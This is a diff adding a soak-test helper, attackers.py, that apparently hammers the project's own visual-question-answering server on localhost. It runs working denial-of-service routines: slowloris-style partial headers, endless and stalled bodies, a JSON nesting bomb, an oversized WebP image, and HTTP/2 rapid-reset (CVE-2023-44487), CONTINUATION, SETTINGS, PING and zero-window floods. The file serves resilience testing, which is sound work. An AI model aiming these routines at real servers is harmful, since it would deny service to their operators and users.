@@ -1,0 +1,207 @@
+"""The attacks of attacks.py, in a process of their own: connections first, the attacks once a line comes on stdin.
+
+    python benchmarks/soak/attackers.py GRPC_PORT HTTP_PORT ATTACK TOKEN...
+
+HTTP_PORT 0 means that there is none; ATTACK names one function here, empty for all. The tokens are those of callers
+who mean harm; some attacks need none. All of them rest between two blows, and the process is nice, since it shares its
+cores with the server.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import random
+import socket
+import struct
+import sys
+import threading
+import time
+from collections.abc import Callable
+from contextlib import suppress
+from functools import partial
+
+import grpc
+from PIL import Image
+from raw_http2 import RawHttp2
+from slow_clients import CONTINUATION, DATA, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame, headers
+
+from asksight.v1 import vqa_pb2, vqa_pb2_grpc
+
+MEBI = 2**20
+HTTP = b"HTTP/1.1\r\nHost: here\r\n"
+Attack = Callable[[], object]
+
+
+def again(attack: Attack, rest_s: float) -> None:
+    """For as long as the process lives; what the server does against it ends one blow, not the attack."""
+    while True:
+        with suppress(OSError, AssertionError, grpc.RpcError, ValueError):
+            attack()
+        time.sleep(rest_s)
+
+
+def stalled_streams(port: int, token: str) -> None:
+    """Ten messages of 16 MiB by one connection, 15 MiB of each sent."""
+    with RawHttp2(port) as raw:
+        for _ in range(10):
+            raw.begin(16 * MEBI - 100, 15 * MEBI, token=token)
+        raw.go_on(5.0)
+
+
+def endless_body(port: int) -> None:
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
+        line.sendall(b"GET /v1/model " + HTTP + b"Content-Length: 99999999999\r\n\r\n")
+        while True:
+            line.sendall(bytes(MEBI))
+
+
+def stalled_form(port: int, token: str) -> None:
+    """16 MiB of a form that does not end."""
+    secret = f"Authorization: Bearer {token}\r\n".encode() if token else b""
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
+        line.sendall(b"POST /v1/ask " + HTTP + secret)
+        line.sendall(b"Content-Type: multipart/form-data; boundary=B\r\nContent-Length: 16777216\r\n\r\n")
+        line.sendall(b'--B\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n\xff\xd8')
+        line.sendall(bytes(15 * MEBI))
+        line.recv(1)
+
+
+def json_bomb(port: int, token: str) -> None:
+    body = b'{"question":[' + b",".join([random.choice((b"{}", b"[]"))] * (5 * MEBI)) + b"]}"
+    secret = f"Authorization: Bearer {token}\r\n".encode() if token else b""
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
+        line.sendall(b"POST /v1/ask " + HTTP + secret)
+        line.sendall(b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body))
+        line.sendall(body)
+        line.recv(1)
+
+
+def half_headers(port: int) -> None:
+    """300 requests that never get their headers' end."""
+    lines = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(300)]
+    for line in lines:
+        line.sendall(b"POST /v1/ask " + HTTP + b"X-a: ")
+    for _ in range(10):
+        time.sleep(1)
+        for line in lines:
+            with suppress(OSError):
+                line.sendall(b"a")
+    for line in lines:
+        line.close()
+
+
+def empty_asks(stub: vqa_pb2_grpc.VqaServiceStub, channel: grpc.Channel, token: str) -> None:
+    del stub
+    call = channel.unary_unary("/asksight.v1.VqaService/AskBatch")
+    call(b"\x0a\x00" * (8 * MEBI - 50), metadata=bearer(token), timeout=20)  # type: ignore[arg-type]
+
+
+def hostile_questions(stub: vqa_pb2_grpc.VqaServiceStub, channel: grpc.Channel, token: str) -> None:
+    """256 questions that are all marks, 1,000 characters each."""
+    del channel
+    marks = (":)=", ":)+", ":)==", ":)$", "''")
+    image_id = stub.Ask(vqa_pb2.AskRequest(image_data=small(), question="?"), metadata=bearer(token)).image_id
+    asks = [
+        vqa_pb2.AskRequest(image_id=image_id, question="".join(random.choices(marks, k=330))[:1000])
+        for _ in range(256)
+    ]
+    stub.AskBatch(vqa_pb2.AskBatchRequest(asks=asks), metadata=bearer(token), timeout=60)
+
+
+def large_webp(stub: vqa_pb2_grpc.VqaServiceStub, channel: grpc.Channel, token: str) -> None:
+    """A kilobyte that is 48 megapixels."""
+    del channel
+    photo = WEBP + random.randbytes(8)
+    stub.Ask(vqa_pb2.AskRequest(image_data=photo, question="?"), metadata=bearer(token), timeout=10)
+
+
+def rapid_reset(port: int) -> None:
+    """Streams that are opened and reset at once, CVE-2023-44487."""
+    flood(port, lambda stream: headers(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
+
+
+def continuations(port: int) -> None:
+    """Headers without an end, CVE-2024-2653 and its like."""
+    first = frame(HEADERS, 0, 1, b"\0\x01a\x01b")
+    flood(port, lambda _: frame(CONTINUATION, 0, 1, b"\0\x01a\x7f\xff\x01" + bytes(382)), first)
+
+
+def settings(port: int) -> None:
+    flood(port, lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, random.randrange(2**16))))
+
+
+def pings(port: int) -> None:
+    flood(port, lambda _: frame(PING, 0, 0, bytes(8)))
+
+
+def zero_window(port: int) -> None:
+    """Asks whose answers are not taken: a window of nothing."""
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
+        line.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+        for stream in range(1, 101, 2):
+            line.sendall(headers(stream, "/grpc.health.v1.Health/Check") + frame(DATA, 1, stream, bytes(5)))
+        time.sleep(10)
+
+
+def flood(port: int, blow: Callable[[int], bytes], first: bytes = b"") -> None:
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
+        line.sendall(PREFACE + frame(SETTINGS, 0, 0) + first)
+        line.setblocking(True)
+        for turn in range(500):
+            line.sendall(b"".join(blow(2 * (100 * turn + at) + 1) for at in range(100)))
+            time.sleep(0.05)
+
+
+def bearer(token: str) -> tuple[tuple[str, str], ...]:
+    return (("authorization", f"Bearer {token}"),)
+
+
+def small() -> bytes:
+    file = io.BytesIO()
+    Image.new("RGB", (64, 64), "red").save(file, "JPEG")
+    return file.getvalue()
+
+
+def _webp() -> bytes:
+    file = io.BytesIO()
+    Image.new("RGB", (8000, 6000)).save(file, "WEBP", lossless=True)
+    return file.getvalue()
+
+
+def main() -> None:
+    port, http, only, *tokens = int(sys.argv[1]), int(sys.argv[2]), *sys.argv[3:]
+    os.nice(10)
+    attacks: list[tuple[str, Attack, float]] = []  # with what rests between two blows, in seconds
+
+    def add(attack: Callable[..., object], *given: object, rest_s: float) -> None:
+        if only in ("", attack.__name__):
+            attacks.append((attack.__name__, partial(attack, *given), rest_s))
+
+    for attack, token in zip((empty_asks, hostile_questions, large_webp, large_webp), tokens, strict=False):
+        channel = grpc.insecure_channel(f"127.0.0.1:{port}")
+        add(attack, vqa_pb2_grpc.VqaServiceStub(channel), channel, token, rest_s=0.5)
+    for token in ("", *tokens[4:6], *tokens[4:6]):
+        add(stalled_streams, port, token, rest_s=0.1)
+    for flooding in (rapid_reset, continuations, settings, pings, zero_window):
+        add(flooding, port, rest_s=0.5)
+    if http:
+        add(endless_body, http, rest_s=0.1)
+        add(half_headers, http, rest_s=0.5)
+        for token in ("", tokens[6], tokens[7]):
+            add(json_bomb, http, token, rest_s=2.0)
+            for _ in range(10):
+                add(stalled_form, http, token, rest_s=0.2)
+    idle = [socket.create_connection(("127.0.0.1", port)) for _ in attacks]
+    sys.stdin.readline()
+    for one in idle:
+        one.close()
+    for name, one_attack, rest_s in attacks:
+        threading.Thread(target=again, name=name, args=(one_attack, rest_s), daemon=True).start()
+    threading.Event().wait()
+
+
+WEBP = _webp()
+
+if __name__ == "__main__":
+    main()
